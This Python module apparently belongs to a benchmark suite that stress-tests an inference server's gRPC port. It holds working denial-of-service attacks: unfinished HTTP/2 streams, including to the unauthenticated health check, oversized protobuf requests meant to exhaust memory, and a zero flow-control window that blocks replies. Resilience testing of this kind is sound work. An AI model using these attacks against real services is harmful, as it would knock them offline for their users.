"""Attacks on the gRPC port."""

import asyncio
import contextlib
import itertools
import struct

import grpc
from tritonclient.grpc import service_pb2 as messages

from benchmarks.serving.attacks import KEY, Attack, Target, again_and_again, connected, first_model

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _SETTINGS = 0, 1, 4
_END_STREAM, _END_HEADERS = 1, 4
_METHOD = "/inference.GRPCInferenceService/ModelInfer"
HEALTH = "/grpc.health.v1.Health/Check"
_STREAMS = 100
_TOKEN = (("authorization", f"Bearer {KEY}"),)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame of HTTP/2 (RFC 9113, 4.1)."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def head(path: str = _METHOD) -> bytes:
    """Header literals without indexing (RFC 7541, 6.2.2)."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
    fields |= {"te": "trailers", "content-type": "application/grpc"}
    return b"".join(
        b"\x00" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )


_HELLO = PREFACE + frame(_SETTINGS, 0, 0)
_BEGUN = struct.pack(">BI", 0, 2_000_000)  # an uncompressed message's length


def _calls(*frames: tuple[int, int, bytes], end: int = _STREAMS) -> bytes:
    return b"".join(
        frame(_HEADERS, _END_HEADERS, stream, head())
        + b"".join(frame(kind, flags, stream, data) for kind, flags, data in frames)
        for stream in range(1, 2 * end, 2)
    )


@again_and_again(100)
async def half_messages(target: Target) -> None:
    """A connection begins a hundred messages of 2 MB, and ends none."""
    async with connected(target, target.grpc_port) as (reader, writer):
        writer.write(_HELLO + _calls((_DATA, 0, _BEGUN + b"x" * 600)))
        await writer.drain()
        await asyncio.wait_for(reader.read(1), 5)
        await asyncio.sleep(1)


@again_and_again(100)
async def half_probes(target: Target) -> None:
    """As `half_messages`, to the health check, which needs no token."""
    async with connected(target, target.grpc_port) as (reader, writer):
        streams = range(1, 2 * _STREAMS, 2)
        heads = b"".join(frame(_HEADERS, _END_HEADERS, stream, head(HEALTH)) for stream in streams)
        writer.write(_HELLO + heads + b"".join(frame(_DATA, 0, stream, _BEGUN + b"x" * 600) for stream in streams))
        await asyncio.wait_for(reader.read(), max(0.1, target.until - asyncio.get_running_loop().time()))


_BYTES = 400_000  # of a message
_CHANNELS, _CALLS = 8, 16
_ROWS, _FEW_ROWS = 100, 16  # few: `unread` should fill memory, not the CPU


def _growing(model: str) -> list[bytes]:
    given, texts = {"name": "text", "datatype": "BYTES", "shape": [_ROWS]}, [b"w1 w2 w3 w4"] * _ROWS
    contents = [
        {"bytes_contents": texts, "int64_contents": [0] * _BYTES},
        {"bytes_contents": texts, "uint64_contents": [1] * _BYTES},
        {"bytes_contents": [b""] * (_BYTES // 2)},
    ]
    asked = [
        messages.ModelInferRequest(model_name=model, inputs=[given | {"contents": each}]).SerializeToString()
        for each in contents
    ]
    many = [bytes([number << 3 | 2, 0]) * (_BYTES // 2) for number in (4, 5, 6, 7)]  # parameters, inputs, ...
    return asked + [messages.ModelInferRequest(model_name=model).SerializeToString() + each for each in many]


async def contents(target: Target) -> None:
    growing = _growing(await first_model(target))

    async def one(channel: grpc.aio.Channel, place: int) -> None:
        for message in itertools.islice(itertools.cycle(growing), place, None):
            if not target.goes_on():
                return
            with contextlib.suppress(grpc.RpcError):
                await channel.unary_unary(_METHOD)(message, metadata=_TOKEN, timeout=20)

    async def sixteen() -> None:
        options = [("grpc.use_local_subchannel_pool", 1)]
        async with grpc.aio.insecure_channel(f"127.0.0.1:{target.grpc_port}", options=options) as channel:
            await asyncio.gather(*(one(channel, place) for place in range(_CALLS)))

    await asyncio.gather(*(sixteen() for _ in range(_CHANNELS)))


@again_and_again(16)
async def unread(target: Target) -> None:
    """The client's HTTP/2 window is 0: no reply can be sent."""
    given = {"name": "text", "datatype": "BYTES", "shape": [_FEW_ROWS]}
    texts = [struct.pack("<I", 2) + b"w1"] * _FEW_ROWS
    asked = messages.ModelInferRequest(
        model_name=await first_model(target), inputs=[given], raw_input_contents=[b"".join(texts)]
    ).SerializeToString()
    message = struct.pack(">BI", 0, len(asked)) + asked
    with_token = head() + b"\x00\x0dauthorization" + bytes([len(_TOKEN[0][1])]) + _TOKEN[0][1].encode()
    async with connected(target, target.grpc_port) as (reader, writer):
        writer.write(PREFACE + frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
        for stream in range(1, 2 * _CALLS, 2):
            writer.write(frame(_HEADERS, _END_HEADERS, stream, with_token))
            writer.write(frame(_DATA, _END_STREAM, stream, message))
        while await asyncio.wait_for(reader.read(4096), max(0.1, target.until - asyncio.get_running_loop().time())):
            pass


GRPC_ATTACKS: dict[str, Attack] = {
    "grpc-half-messages": half_messages,
    "grpc-half-probes": half_probes,
    "grpc-contents": contents,
    "grpc-unread": unread,
}
